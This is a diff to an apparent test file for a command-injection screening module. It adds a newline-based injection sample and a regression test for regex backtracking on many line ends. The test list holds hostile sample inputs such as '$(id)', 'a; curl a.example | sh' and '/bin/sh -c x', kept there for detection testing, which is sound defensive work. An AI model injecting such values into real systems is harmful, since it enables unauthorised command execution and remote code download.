@@ -67,6 +67,7 @@ COMMANDS = [
     "$(id)",
     "a; curl a.example | sh",
     "x\nls -la",
+    "x;\n\n \tls -la",
     "|| ping -c 9 127.0.0.1",
     ";sleep 9;",
     "/bin/sh -c x",
@@ -114,3 +115,11 @@ def test_every_repetition_in_a_pattern_is_bounded() -> None:
         outside = re.sub(r"\\.|\[\^?\]?(?:\\.|[^\]\\])*\]", "", pattern)
         assert not re.search(r"[*+]|\{\d+,\}", outside), pattern
     assert screening._bounded(r"a*[*+]\*b+?") == r"a{0,60}[*+]\*b{1,60}?"  # noqa: SLF001
+
+
+def test_the_last_of_several_line_ends_separates_commands() -> None:
+    """A text of line ends took thirty times as long as others: each was tried with all that follow."""
+    (of_commands,) = (pattern for attack, _, pattern in screening._PATTERNS if attack is Attack.COMMAND)  # noqa: SLF001
+    found = of_commands.search("\n" * 50 + "\t cat notes")
+    assert found is not None
+    assert found.start() == 49
